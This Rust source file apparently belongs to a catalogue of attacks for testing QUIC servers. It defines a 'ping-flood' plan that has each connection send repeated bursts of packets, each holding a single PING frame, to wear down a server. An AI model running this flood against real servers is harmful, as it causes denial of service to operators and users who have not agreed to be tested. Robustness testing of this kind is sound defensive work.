//! Endless PING frames.

use courser_crypto::Space;

use crate::attack::{Plan, Victim};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "ping-flood",
    labels: &["A33"],
    summary: "packets with one PING frame each",
    victim: Victim::Server,
    make: || Box::new(ping_flood()),
};

fn ping_flood() -> Crowd {
    Crowd::new(2, |connection, _, now| {
        for _ in 0..BURST {
            connection.send_packet(now, Space::Application, vec![vec![PING]]);
        }
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 32;

/// A PING frame, which consists only of its type.
const PING: u8 = 0x01;
